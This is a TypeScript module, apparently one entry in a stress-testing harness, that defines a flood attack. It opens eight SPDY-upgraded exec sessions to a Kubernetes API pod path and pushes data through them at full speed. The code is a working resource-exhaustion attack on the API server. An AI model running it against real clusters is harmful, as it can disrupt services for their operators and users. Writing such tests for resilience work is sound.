// Sessions of exec that send as fast as they can, and get it all back.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

const EXEC = '/api/v1/namespaces/default/pods/web-0/exec?command=sh'
const BYTES = Buffer.alloc(16_000)

export const attack: Attack = {
  reference: 'flooding exec sessions',
  does: 'sends at full speed through 8 sessions of exec',
  who: ['known', 'unknown'],
  answers: ['101', '200', '401', '403', '502', '503'],
  run: (target, signal) => {
    const post = head1(target, `POST ${EXEC}`, 'Connection: Upgrade', 'Upgrade: SPDY/3.1')
    return attackHttp1(target, signal, { connections: 8 }, (wire) => {
      let asked = false
      let open = false
      return {
        next() {
          if (asked) return open ? BYTES : undefined
          asked = true
          return post
        },
        answered() {
          open = true
          wire.more()
        },
      }
    })
  },
}
